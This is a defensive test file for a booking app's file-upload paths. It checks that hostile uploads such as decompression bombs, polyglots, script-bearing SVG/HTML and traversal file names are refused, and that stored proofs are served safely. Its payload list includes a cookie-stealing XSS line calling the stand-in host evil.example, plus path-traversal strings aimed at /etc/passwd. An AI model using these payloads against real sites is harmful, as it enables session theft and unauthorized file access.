import fc from 'fast-check';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createUserWithRole, signIn, type SignedIn } from '../../support/auth';
import { createUnit } from '../../support/factories';
import { createTestApp, type TestApp } from '../../support/test-app';
import {
  createGuestBooking,
  filesUnder,
  guestBookingBody,
  makeJpegWithExif,
  makePdf,
  makePng,
  pngClaiming,
} from '../guest-booking/guest-helpers';

/**
 * Issue 10 "Hostile files": generated bad uploads to every upload path — the guest's payment
 * proof, a payment proof recorded by staff, and an expense receipt — each refused with 400, 413
 * or 415, nothing stored, and the process's memory watched while it happens. Then a good file is
 * served with Content-Disposition and nosniff, to staff only.
 *
 * HOSTILE_FILES sets the files per upload path (default 80, so 240 in all).
 */
const PER_TARGET = Number(process.env.HOSTILE_FILES ?? 80);
const MB = 1024 * 1024;

type Upload = { bucket: string; path: string; token: string };
type Declared = 'image/png' | 'image/jpeg' | 'image/webp' | 'application/pdf';
type BadFile = { family: string; bytes: Buffer; contentType: string };

let t: TestApp;
let manager: SignedIn;
let png: Buffer;
let jpeg: Buffer;
let webp: Buffer;

const SCRIPTS = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
  '<svg onload="alert(1)"/>',
  '<iframe src="javascript:alert(1)"></iframe>',
];

/** The families of bad files, generated from a seed so a failure can be replayed. */
function badFiles(count: number, declared: Declared[], seed: number): BadFile[] {
  const type = fc.constantFrom(...declared);
  const script = fc.constantFrom(...SCRIPTS);
  const families: fc.Arbitrary<BadFile>[] = [
    // Random bytes behind a good Content-Type (wrong magic bytes).
    fc
      .tuple(fc.uint8Array({ minLength: 1, maxLength: 4096 }), type)
      .map(([bytes, contentType]) => ({
        family: 'random bytes',
        bytes: Buffer.from(bytes),
        contentType,
      })),
    // One family's magic bytes declared as the other (an image as a PDF, a PDF as an image).
    // Within images the real type wins: a phone's JPEG sent as image/webp is re-encoded as the
    // JPEG it is (proof-file.ts), so that is not a bad file.
    fc
      .tuple(fc.constantFrom('png', 'jpeg', 'webp', 'pdf'), type)
      .map(([real, declared]): BadFile => {
        const bytes = { png, jpeg, webp, pdf: makePdf() }[real];
        const realIsPdf = real === 'pdf';
        const declaredIsPdf = declared === 'application/pdf';
        if (realIsPdf === declaredIsPdf) {
          return {
            family: 'text under a real type',
            bytes: Buffer.from(`not a ${real}`),
            contentType: declared,
          };
        }
        return { family: 'image as PDF or PDF as image', bytes, contentType: declared };
      }),
    // Truncated images: a real image cut short.
    fc
      .tuple(fc.constantFrom('png', 'jpeg', 'webp'), fc.double({ min: 0.05, max: 0.9 }))
      .map(([real, fraction]) => {
        const whole = { png, jpeg, webp }[real];
        return {
          family: `truncated ${real}`,
          bytes: whole.subarray(0, Math.max(12, Math.floor(whole.length * fraction))),
          contentType: `image/${real}`,
        };
      }),
    // Decompression bombs: a tiny PNG that claims a huge canvas.
    fc
      .tuple(fc.integer({ min: 20_000, max: 65_000 }), fc.integer({ min: 20_000, max: 65_000 }))
      .map(([width, height]) => ({
        family: 'decompression bomb',
        bytes: pngClaiming(width, height),
        contentType: 'image/png',
      })),
    // PNG/PDF polyglots and PDFs carrying HTML or JavaScript.
    fc.tuple(script, fc.boolean()).map(([code, pngFirst]) => ({
      family: 'polyglot',
      bytes: pngFirst
        ? Buffer.concat([png, makePdf(code)])
        : makePdf(`${code}\n4 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj`),
      contentType: pngFirst ? 'image/png' : 'application/pdf',
    })),
    // SVG and HTML with script, under every declared type.
    fc.tuple(script, type, fc.boolean()).map(([code, contentType, svg]) => ({
      family: svg ? 'svg with script' : 'html',
      bytes: Buffer.from(
        svg
          ? `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${code}</svg>`
          : `<!DOCTYPE html><html><body>${code}</body></html>`,
      ),
      contentType,
    })),
    // Over the size limit (a real image padded past 2 MB).
    fc.integer({ min: 1, max: MB }).map((extra) => ({
      family: 'over 2 MB',
      bytes: Buffer.concat([png, Buffer.alloc(2 * MB - png.length + extra, 7)]),
      contentType: 'image/png',
    })),
    // Empty.
    type.map((contentType) => ({ family: 'empty', bytes: Buffer.alloc(0), contentType })),
  ];
  return fc.sample(fc.oneof(...families), { numRuns: count, seed });
}

async function put(upload: Upload, file: { bytes: Buffer; contentType: string }) {
  const segments = [upload.bucket, ...upload.path.split('/')].map(encodeURIComponent).join('/');
  return t.app.inject({
    method: 'PUT',
    url: `/api/storage/upload/${segments}?token=${encodeURIComponent(upload.token)}`,
    headers: { 'content-type': file.contentType },
    payload: file.bytes,
  });
}

/** Peak resident memory while `work` runs, sampled every 20 ms. */
async function peakMemory(work: () => Promise<void>): Promise<{ before: number; peak: number }> {
  const before = process.memoryUsage().rss;
  let peak = before;
  const timer = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage().rss);
  }, 20);
  try {
    await work();
  } finally {
    clearInterval(timer);
  }
  return { before, peak: Math.max(peak, process.memoryUsage().rss) };
}

let unitId: string;
let expenseId: string;
let paymentTargets: { bookingId: string; paymentId: string };

beforeAll(async () => {
  t = await createTestApp();
  png = await makePng(320, 240);
  jpeg = await makeJpegWithExif();
  webp = await sharp(png).webp().toBuffer();
  const account = await createUserWithRole(t, 'manager');
  manager = await signIn(t, account.email, account.password);
  unitId = (await createUnit(t.database, { max_occupancy: 4 })).unit_id;
  const expense = await manager.inject({
    method: 'POST',
    url: '/api/expenses',
    payload: {
      expense_date: '2026-11-02',
      category: 'Supplies',
      amount: 1250.5,
      description: 'Cleaning supplies',
      vendor: 'Sari-sari store',
    },
  });
  expect(expense.statusCode, expense.body).toBe(201);
  expenseId = expense.json().data.expense_id;
  const booked = await createGuestBooking(
    t,
    guestBookingBody(unitId, { check_in: '2031-05-01', check_out: '2031-05-03' }),
  );
  const payment = await manager.inject({
    method: 'POST',
    url: '/api/payments',
    payload: {
      booking_id: booked.booking.booking_id,
      payment_amount: 1000,
      payment_method: 'GCash',
      file_name: 'receipt.png',
      file_type: 'image/png',
      file_size: 50_000,
    },
  });
  expect(payment.statusCode, payment.body).toBe(201);
  paymentTargets = {
    bookingId: booked.booking.booking_id,
    paymentId: payment.json().data.payment_id,
  };
}, 60_000);
afterAll(() => t.close());

const DECLARED: Declared[] = ['image/png', 'image/jpeg', 'image/webp', 'application/pdf'];
const EXTENSION: Record<Declared, string> = {
  'image/png': 'png',
  'image/jpeg': 'jpg',
  'image/webp': 'webp',
  'application/pdf': 'pdf',
};

/** A signed upload for each declared type, per upload path. Refusals do not spend a token. */
async function tokens(target: string): Promise<Map<Declared, Upload>> {
  const out = new Map<Declared, Upload>();
  let night = 0;
  for (const type of DECLARED) {
    const file = { file_name: `receipt.${EXTENSION[type]}`, file_type: type, file_size: 50_000 };
    if (target === 'guest proof') {
      night += 3;
      const day = (n: number) => new Date(Date.UTC(2031, 6, 1 + n)).toISOString().slice(0, 10);
      const created = await createGuestBooking(
        t,
        guestBookingBody(unitId, { check_in: day(night), check_out: day(night + 1), ...file }),
      );
      out.set(type, created.upload);
    } else {
      const url =
        target === 'expense receipt'
          ? `/api/expenses/${expenseId}/proof-upload`
          : `/api/payments/${paymentTargets.paymentId}/proof-upload`;
      const response = await manager.inject({ method: 'POST', url, payload: file });
      expect(response.statusCode, response.body).toBe(200);
      out.set(type, response.json().upload as Upload);
    }
  }
  return out;
}

describe(`hostile files (${process.env.TEST_DB})`, () => {
  it(`refuses ${PER_TARGET * 3} generated bad uploads on every upload path and stores nothing`, async () => {
    const before = filesUnder(t, 'storage');
    const tally = new Map<string, number>();
    let tried = 0;
    const memory = await peakMemory(async () => {
      for (const [index, target] of ['guest proof', 'payment proof', 'expense receipt'].entries()) {
        const uploads = await tokens(target);
        for (const file of badFiles(PER_TARGET, DECLARED, 20261122 + index)) {
          // Send it on the token of the type it claims (its best chance), or PNG's.
          const upload = uploads.get(file.contentType as Declared) ?? uploads.get('image/png')!;
          const response = await put(upload, file);
          const where = `${target}, ${file.family} (${file.bytes.length} bytes as ${file.contentType}) → ${response.statusCode} ${response.body.slice(0, 200)}`;
          expect([400, 413, 415], where).toContain(response.statusCode);
          expect(typeof response.json().message, where).toBe('string');
          tally.set(file.family, (tally.get(file.family) ?? 0) + 1);
          tried += 1;
        }
      }
    });
    expect(filesUnder(t, 'storage')).toEqual(before);
    const grewMb = (memory.peak - memory.before) / MB;
    console.info(
      `hostile files (${process.env.TEST_DB}): ${tried} refused, nothing stored; resident memory ${Math.round(memory.before / MB)} MB before, peak ${Math.round(memory.peak / MB)} MB (+${Math.round(grewMb)} MB)\n  ${[
        ...tally,
      ]
        .map(([family, n]) => `${family}: ${n}`)
        .join('\n  ')}`,
    );
    expect(tried).toBe(PER_TARGET * 3);
    // The uploads themselves may not balloon memory: a bomb is refused from its header.
    expect(grewMb).toBeLessThan(300);
  }, 600_000);

  it('refuses file names and paths that try to leave the bucket', async () => {
    const uploads = await tokens('expense receipt');
    const upload = uploads.get('image/png')!;
    for (const bad of ['../../../etc/passwd', '..%2F..%2Fescape.png', 'a%5C..%5Cescape.png']) {
      const response = await t.app.inject({
        method: 'PUT',
        url: `/api/storage/upload/${upload.bucket}/${expenseId}/${bad}?token=${encodeURIComponent(upload.token)}`,
        headers: { 'content-type': 'image/png' },
        payload: png,
      });
      expect([400, 403, 404], `${bad}: ${response.body}`).toContain(response.statusCode);
    }
    // A hostile name asked for up front is reduced to a safe one inside the record's folder.
    for (const name of ['../../../../etc/passwd.png', '..\\..\\win.ini.png', '<script>.png']) {
      const response = await manager.inject({
        method: 'POST',
        url: `/api/expenses/${expenseId}/proof-upload`,
        payload: { file_name: name, file_type: 'image/png', file_size: 1000 },
      });
      expect(response.statusCode, response.body).toBe(200);
      const path = response.json().upload.path as string;
      expect(path.startsWith(`${expenseId}/`), path).toBe(true);
      expect(path).not.toMatch(/\.\.|\\|<|>/);
    }
    expect(filesUnder(t, '.').some((file) => file.includes('escape'))).toBe(false);
  });

  it('serves a stored proof with Content-Disposition and nosniff, to staff only', async () => {
    const upload = (await tokens('expense receipt')).get('image/png')!;
    const stored = await put(upload, { bytes: png, contentType: 'image/png' });
    expect(stored.statusCode, stored.body).toBe(200);
    const attached = await manager.inject({
      method: 'POST',
      url: `/api/expenses/${expenseId}/proof`,
      payload: { path: upload.path },
    });
    expect(attached.statusCode, attached.body).toBe(200);

    const served = await manager.inject({ method: 'GET', url: `/api/expenses/${expenseId}/proof` });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(String(served.headers['content-disposition'])).toMatch(/^(inline|attachment);/);
    expect(served.headers['x-content-type-options']).toBe('nosniff');

    const anonymous = await t.app.inject({
      method: 'GET',
      url: `/api/expenses/${expenseId}/proof`,
    });
    expect(anonymous.statusCode).toBe(401);
  });
});
